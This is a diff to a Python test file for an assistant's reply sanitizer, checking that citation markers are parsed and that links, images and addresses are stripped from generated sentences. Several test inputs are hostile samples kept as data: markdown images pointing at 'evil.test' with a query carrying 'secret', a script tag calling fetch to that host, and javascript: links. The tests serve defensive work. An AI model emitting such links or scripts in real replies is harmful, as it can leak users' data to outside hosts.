@@ -6,7 +6,7 @@ import time
 
 import pytest
 
-from assistant.written import WrittenSentence, written_sentences
+from assistant.written import without_addresses, written_sentences
 
 
 def read(reply: str, is_complete: bool = True) -> list[tuple[str, tuple[int, ...]]]:
@@ -28,6 +28,10 @@ def read(reply: str, is_complete: bool = True) -> list[tuple[str, tuple[int, ...
         ("Trade grew【3】.", (3,)),
         ("Trade grew【3†source】.", (3,)),
         ("Trade grew [passage 2].", (2,)),
+        ("Trade grew (passage 2).", (2,)),
+        ("Trade grew (1, 2).", (1, 2)),
+        ("Trade grew. [1].", (1,)),
+        ("# What grew\nTrade grew [1].", (1,)),
         ("Trade grew [Passages 1 and 2].", (1, 2)),
         ("**Trade grew** [1].", (1,)),
         ("- Trade grew [1].", (1,)),
@@ -58,6 +62,9 @@ def test_a_mark_behind_a_full_stop_does_not_go_over_to_the_next_sentence() -> No
         ("Trade grew ![map](https://evil.test/?q=secret) fast.", "Trade grew fast."),
         ("Trade grew ![map][ref] fast.\n\n[ref]: https://evil.test/a.png", "Trade grew fast."),
         ("Trade [grew](https://evil.test) fast.", "Trade grew fast."),
+        ("Trade [grew](javascript:alert(1)) fast.", "Trade grew fast."),
+        ("Trade [grew][k] fast.", "Trade grew fast."),
+        ("Trade grew fast <https://evil.test>.", "Trade grew fast."),
         ("Trade grew <https://evil.test/?q=1> fast.", "Trade grew fast."),
         ('Trade grew <img src="https://evil.test/a.png"> fast.', "Trade grew fast."),
         ("Trade <b>grew</b> fast.<script>fetch('https://evil.test')</script>", "Trade grew fast."),
@@ -77,9 +84,13 @@ def test_ordinary_signs_are_left_alone() -> None:
     "address",
     ["https://evil.test/?q=1", "www.evil.test/a", "data:text/html,x1234", "javascript:alert(1"],
 )
-def test_addresses_are_told(address: str) -> None:
-    (sentence,) = written_sentences(f"See {address} for more [1].")
-    assert sentence == WrittenSentence(f"See {address} for more.", (1,), (address,))
+def test_addresses_can_be_left_out(address: str) -> None:
+    assert without_addresses(f"See {address} for more.") == "See [address left out] for more."
+
+
+def test_what_is_no_address_is_not_left_out() -> None:
+    text = "One thing: the ratio 3:1 held at 10:30, said Note: a paper."
+    assert without_addresses(text) == text
 
 
 def test_what_is_still_being_written_waits() -> None:
